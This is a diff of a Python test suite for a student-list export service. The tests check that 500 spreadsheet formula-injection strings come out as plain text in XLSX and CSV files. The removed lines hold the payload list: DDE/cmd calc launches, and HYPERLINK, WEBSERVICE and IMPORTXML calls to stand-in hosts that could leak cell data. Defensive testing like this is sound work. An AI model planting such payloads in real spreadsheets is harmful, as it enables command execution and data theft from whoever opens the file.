@@ -3,11 +3,10 @@
 import csv
 import io
 import json
-import random
 import re
 import shutil
-import subprocess
 
+import hostile_export
 import openpyxl
 import pypdfium2
 import pytest
@@ -23,6 +22,7 @@ from drawn_lists import (
     publish_two_weeks,
     student,
 )
+from hostile_cells import NOT_HERE, OFFICE, as_csv, hostile, opened
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from paper import needs_pango, students_in, text_of
@@ -32,28 +32,15 @@ from starlette.testclient import TestClient
 
 from serving import pack_pdf, published
 from serving.app import create_app
-from serving.database import Database
+from serving.database import By, Database
 from serving.exports import Export, read_export
 from serving.faults import Missing
 from serving.people import Person, Role
 from serving.published import FoundRow, Publication, Wanted
+from serving.spreadsheets import is_like_a_formula
 
 COVERAGE = Person("cobertura", Role.COVERAGE)
-HOSTILE_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "  @", "%0A-", ";=", '"=', "'=")
-HOSTILE_ENDS = (
-    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1)', "SUM(A1:A9)", "IMPORTXML(CONCAT(\"http://x\"),1)",
-    'WEBSERVICE("http://x.example")', "DDE(\"cmd\";\"/c calc\";\"x\")", "A1", "2+5+cmd|'/c x'!A", "EXEC(1)",
-)  # fmt: skip
-SEEDED = random.Random(7)
-
-
-def hostile(number):
-    """Texts that a spreadsheet program may run, no two alike."""
-    made = dict.fromkeys(start + end for start in HOSTILE_STARTS for end in HOSTILE_ENDS)
-    while len(made) < number:
-        start, end = SEEDED.choice(HOSTILE_STARTS), SEEDED.choice(HOSTILE_ENDS)
-        made[f"{start}{end}{SEEDED.randrange(10**6)}"] = None
-    return list(made)[:number]
+TAKING = By("esperanza.rectoria", MONDAY_MORNING, BY.context)
 
 
 @pytest.fixture(scope="module")
@@ -74,7 +61,7 @@ def export_of(database, institution=None):
     with database.reading_as(BY.context) as connection:
         publication = published.publication_for(connection, None)
         wanted = Wanted(institution=institution, city_list_only=institution is None)
-        return read_export(connection, publication, wanted, "esperanza.rectoria", COVERAGE)
+        return read_export(connection, publication, wanted, TAKING, COVERAGE)
 
 
 def csv_rows(content):
@@ -251,37 +238,32 @@ def test_without_pango_the_sentence_says_what_to_install(pack, monkeypatch):
 
 def test_five_hundred_texts_that_a_spreadsheet_would_run_are_only_text():
     texts = hostile(500)
-    children = [
-        (rank, {"student_id": f"{rank:016x}", "name": text, "grade": 6, "reasons": 2, "protected": True})
-        for rank, text in enumerate(texts, start=1)
-    ]
-    export = drawn_export(children)
+    export = hostile_export.export_of(texts)
 
-    cells = [row[3] for row in sheet(export.as_xlsx()).iter_rows(min_row=2)]
+    cells = list(sheet(export.as_xlsx()).iter_rows(min_row=2))
     rows = csv_rows(export.as_csv())
     assert len(set(texts)) == len(cells) == len(rows) == 500
-    assert {cell.data_type for cell in cells} == {"s"}
-    assert not [row["Nombre"] for row in rows if row["Nombre"].lstrip(" ")[:1] in set("=+-@\t\r\n＝＋－＠")]
-    assert [row["Nombre"].removeprefix("'") for row in rows] == [text.removeprefix("'") for text in texts]
+    assert {cell.data_type for row in cells for cell in row} <= {"s", "n"}  # n: a number, or nothing
+    assert [row[3].value for row in cells] == [read_back(text) for text in texts]
+    assert all(row[3].quotePrefix for row in cells if is_like_a_formula(row[3].value))
+    assert not [cell for row in rows for cell in row.values() if is_like_a_formula(cell)]
+    assert [row["Nombre"].replace("'", "") for row in rows] == [text.replace("'", "") for text in texts]
 
 
-@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not here (apt-get install libreoffice-calc)")
-@pytest.mark.parametrize("kind", ["xlsx", "csv"])
-def test_libreoffice_runs_none_of_them(kind, tmp_path):
-    texts = hostile(500)
-    children = [
-        (rank, {"student_id": f"{rank:016x}", "name": text, "grade": 6, "reasons": 1, "protected": False})
-        for rank, text in enumerate(texts, start=1)
-    ]
-    (tmp_path / f"lista.{kind}").write_bytes(drawn_export(children).content(kind))
-    profile = f"-env:UserInstallation=file://{tmp_path / 'profile'}"
-    reading = ["--infilter=CSV:59,34,76"] if kind == "csv" else []
-    made = ["--convert-to", "fods", "--outdir", str(tmp_path), str(tmp_path / f"lista.{kind}")]
-    subprocess.run(["soffice", profile, "--headless", *reading, *made], check=True, capture_output=True, timeout=180)
+def read_back(text):
+    """XML has no carriage return of its own, and the file writes it in letters."""
+    return text.replace("\r", "_x000D_")
 
-    opened = (tmp_path / "lista.fods").read_text(encoding="utf-8")
-    assert opened.count('office:value-type="string"') >= 500
-    assert "table:formula" not in opened
+
+@pytest.mark.skipif(OFFICE is None, reason=NOT_HERE)
+@pytest.mark.parametrize("kind, reading", [("xlsx", []), ("csv", as_csv("semicolon")), ("csv", as_csv("comma"))])
+def test_libreoffice_runs_none_of_them(kind, reading, tmp_path):
+    (tmp_path / f"lista.{kind}").write_bytes(hostile_export.export_of(hostile(500)).content(kind))
+
+    cells = opened(tmp_path / f"lista.{kind}", reading)
+
+    assert len(cells) >= 500
+    assert not [cell for cell in cells if cell.formula]
 
 
 # For a program
